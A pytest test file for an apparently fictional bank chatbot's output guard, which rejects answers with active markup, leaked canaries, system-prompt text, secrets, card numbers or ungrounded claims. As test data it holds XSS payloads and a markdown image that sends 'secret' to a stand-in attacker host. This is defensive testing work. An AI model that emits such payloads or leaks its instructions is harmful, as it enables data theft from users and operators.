from __future__ import annotations

import pytest

from rails.output import Policy, answer_is_safe, check_answer, leaks_prompt, new_pii


@pytest.mark.parametrize(
    "answer",
    [
        "<script>alert(1)</script>",
        'Click <img src=x onerror="alert(1)">',
        "[here](javascript:alert(1))",
        "![logo](https://evil.example/?q=secret)",
        '<a href="#" onclick="steal()">x</a>',
    ],
)
def test_active_content_fails(answer: str) -> None:
    assert not answer_is_safe(answer)


def test_plain_answers_pass() -> None:
    assert answer_is_safe("Call 0800 000 0000 or see [our FAQ](https://help.example/cards).")


CHUNKS = ["Lost card?\nCall 0800 000 0199 and freeze the card in the app."]
POLICY = Policy(
    system_prompt="You are the assistant of Northwind Bank. Answer only from the excerpts given.",
    canary="nwb-0123456789abcdef",
    secrets=("admin-key-0123456789",),
)


@pytest.mark.parametrize(
    ("answer", "reason"),
    [
        ("<script>x</script>", "markup"),
        ("My marker is NWB-0123456789ABCDEF.", "canary"),
        (
            "My rules: you are the assistant of Northwind Bank. Answer only from the excerpts.",
            "prompt_leak",
        ),
        ("Use the key admin-key-0123456789 to log in.", "secret"),
        ("Use api_key=abcd1234efgh5678 here.", "secret"),
        ("Your card 4111 1111 1111 1111 is frozen.", "pii"),
        ("Call 0800 000 0199. We also waive all fees this month.", "ungrounded"),
    ],
)
def test_check_answer_failures(answer: str, reason: str) -> None:
    result = check_answer(answer, CHUNKS, POLICY)
    assert not result.ok and result.reason == reason


def test_check_answer_passes_grounded_answers() -> None:
    assert check_answer("Call 0800 000 0199 and freeze the card in the app.", CHUNKS, POLICY).ok


def test_faq_text_is_not_a_leak() -> None:
    """Words the FAQ shares with the system prompt may be repeated."""
    prompt = "Never ask for passwords, PINs or full card numbers in this chat at all."
    faq = ["We never ask for passwords, PINs or full card numbers in this chat at all."]
    assert not leaks_prompt(
        "We never ask for passwords, PINs or full card numbers in this chat at all.", prompt, faq
    )
    assert new_pii("Call 0800 000 0199.", CHUNKS) == []
